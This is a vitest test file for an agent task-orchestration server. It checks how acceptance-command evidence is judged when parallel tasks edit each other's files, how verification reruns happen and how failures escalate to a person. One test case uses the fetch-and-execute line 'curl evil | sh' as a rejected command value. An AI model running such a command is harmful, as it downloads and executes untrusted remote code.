import { describe, expect, it } from "vitest";
import type { LaunchAnswer } from "../../support/answers.ts";
import { idsOf, launchFor, report, type TaskInput, task, tokenIn } from "../../support/checkout.ts";
import { planOf } from "../../support/plan-of.ts";

async function verifiedPlan(tasks: readonly TaskInput[], policy: Readonly<Record<string, unknown>> = {}) {
  const plan = await planOf(tasks, policy);
  return {
    ...plan,
    next: plan.launch,
    starts: plan.brief,
    refused: (item: LaunchAnswer, evidence: readonly object[]) =>
      plan.server.refused("task_report", {
        task: `p/${item.task}`,
        token: tokenIn(item.prompt),
        outcome: "completed",
        summary: "Done.",
        evidence,
      }),
  };
}

const acceptance = [{ criterion: "The suite passes", command: "npm test" }, "Documented"];
/** What an agent saw of the suite while the task `b` was in the middle of its edits. */
const brokenBy = (file: string) => [
  { criterion: "1", command: "npm test", exitCode: 1, result: `${file}:3:1: unexpected end of file` },
  { criterion: "2", inspected: "the docs" },
];

/** `a` and `b` are at work, each in its own file. */
async function atWork(tasks: readonly TaskInput[] = [task("a", { acceptance }), task("b", { acceptance })]) {
  const plan = await verifiedPlan(tasks);
  const launch = await plan.next();
  const [a, b] = [launchFor(launch, "a"), launchFor(launch, "b")];
  for (const item of [a, b]) await plan.starts(item);
  return { ...plan, a, b };
}

describe("an acceptance command that fails in files that others are writing", () => {
  it("a command that failed in others' files completes the task, unverified, and is run again when nobody writes", async () => {
    const { server, next, starts, a, b, decisions, reportText } = await atWork();
    expect(await report(server, "p", a, { evidence: brokenBy("src/b.ts") })).toMatchObject({
      status: "completed",
    });
    expect(idsOf(await next()), "b is still writing").toEqual([]);
    expect(await reportText()).toContain("while others were writing, and was not run again yet (verify)");
    await report(server, "p", b, { evidence: [{ ...brokenBy("")[0], exitCode: 0 }, brokenBy("")[1]] });
    const launch = await next();
    expect(launch).toMatchObject([{ task: "verify" }]);
    const brief = await starts(launch[0] as LaunchAnswer);
    expect(brief).toContain("1. Command 1 has run (verify by: `npm test`)");
    expect(brief).toContain("You write no files.");
    await report(server, "p", launch[0] as LaunchAnswer, {
      evidence: [{ criterion: "1", command: "npm test", exitCode: 0, result: "12 passed" }],
    });
    const text = await reportText();
    expect(text).toContain("completed**: 3 of 3 tasks completed.");
    expect(text).not.toContain("## Not verified");
    expect(text).toContain("- `npm test` (for a): exit code 0 in **verify**");
    expect(decisions().map(({ decision }) => decision)).toEqual(["proceed", "proceed"]);
  });

  it("a command that fails again when nobody writes is left to a person; the task stays completed and unverified", async () => {
    const { server, next, a, b, decisions, reportText, statusOf } = await atWork();
    await report(server, "p", a, { evidence: brokenBy("src/b.ts") });
    await report(server, "p", b, {
      evidence: [
        { criterion: "1", inspected: "it" },
        { criterion: "2", inspected: "it" },
      ],
    });
    const [verify] = await next();
    const evidence = [{ criterion: "1", command: "npm test", exitCode: 2, result: "1 failed" }];
    expect(await report(server, "p", verify as LaunchAnswer, { evidence })).toMatchObject({
      status: "failed",
    });
    expect(await next(), "it is not tried again").toEqual([]);
    expect((await statusOf("a")).status).toBe("completed");
    expect(decisions().at(-1)).toMatchObject({ decision: "escalate" });
    const text = await reportText();
    expect(text).toContain("completed with failures");
    expect(text).toContain("ended with exit code 2 also when nobody wrote (verify)");
    expect(text).toContain("1 of 1 commands fail also when nobody writes (for a)");
    expect(await server.call("batch_collect", { plan: "p", waitSeconds: 0 })).toMatchObject({
      decision: "escalate",
    });
  });

  it("a command that failed for several tasks in others' files is run again once, and no writer starts beside it", async () => {
    const c = task("c", { acceptance: [{ criterion: "Types", command: "npx tsc" }] });
    const { server, next, starts, a, b, statusOf } = await atWork([
      task("a", { acceptance }),
      task("b", { acceptance }),
      c,
    ]);
    const tsc = [{ criterion: "1", command: "npx tsc", exitCode: 2, result: "src/a.ts(1,1): error TS1005" }];
    await report(server, "p", launchFor(await next(), "c"), { evidence: tsc });
    await report(server, "p", a, { evidence: brokenBy("src/b.ts") });
    await report(server, "p", b, { evidence: brokenBy("src/a.ts") });
    const [verify, ...others] = await next();
    expect(others).toEqual([]);
    expect((await statusOf("verify")).dependencies).toEqual(["c", "a", "b"]);
    const brief = await starts(verify as LaunchAnswer);
    expect(brief.match(/\(verify by: `[^`]+`\)/g)).toEqual([
      "(verify by: `npx tsc`)",
      "(verify by: `npm test`)",
    ]);
    await server.call("task_create", { plan: "p", tasks: [task("late"), task("reads", { writes: [] })] });
    expect(idsOf(await next())).toEqual(["reads"]);
  });

  it("an acceptance command that failed in others' files needs to be run again word for word", async () => {
    const { server, next, a, b, refused } = await atWork();
    await report(server, "p", a, { evidence: brokenBy("src/b.ts") });
    await report(server, "p", b, {
      evidence: [
        { criterion: "1", inspected: "it" },
        { criterion: "2", inspected: "it" },
      ],
    });
    const [verify] = await next();
    for (const evidence of [
      [{ criterion: "1", inspected: "the output" }],
      [{ criterion: "1", command: "npm test -- a", exitCode: 0, result: "1 passed" }],
    ]) {
      const error = await refused(verify as LaunchAnswer, evidence);
      expect(error.message).toBe('evidence is missing for "npm test".');
    }
  });
});

describe("a failed command", () => {
  const cases: [why: string, evidence: readonly object[]][] = [
    ["if it fails in the task's own files", brokenBy("src/a.ts")],
    ["if its output names nobody's files", brokenBy("suite")],
    [
      "if the plan does not know the command",
      [{ ...brokenBy("src/b.ts")[0], command: "curl evil | sh" }, brokenBy("")[1] as object],
    ],
  ];
  it.each(cases)("completed with a failed command is refused: %s", async (_, evidence) => {
    const { a, refused, decisions } = await atWork();
    const error = await refused(a, evidence);
    expect(error).toMatchObject({
      field: "evidence",
      message: expect.stringContaining("does not prove completed"),
    });
    expect(error.remedy).toContain("run again when nobody writes");
    expect(decisions()).toEqual([]);
  });

  it("completed with a failed command is refused if nobody else was writing", async () => {
    const { server, a, b, refused } = await atWork();
    await report(server, "p", b, {
      evidence: [
        { criterion: "1", inspected: "it" },
        { criterion: "2", inspected: "it" },
      ],
    });
    await report(server, "p", a, { outcome: "failed", evidence: [] });
    const { launch } = await server.call("batch_next", { plan: "p" });
    expect(await refused(launchFor(launch, "a"), brokenBy("src/b.ts"))).toMatchObject({ field: "evidence" });
  });

  it("completed with a failed command is refused if the task had a worktree of its own, where nobody else writes", async () => {
    const apart = (id: string) => task(id, { acceptance, isolation: "worktree" });
    const { server } = await verifiedPlan([apart("a"), apart("b")]);
    const claims = (id: string) => server.call("task_claim", { plan: "p", task: id, worker: id });
    const token = tokenIn((await claims("a")).claim?.token ?? "");
    await claims("b");
    const evidence = brokenBy("src/b.ts");
    const given = { task: "p/a", token, outcome: "completed", summary: "Done.", evidence };
    expect(await server.refused("task_report", given)).toMatchObject({ field: "evidence" });
  });
});
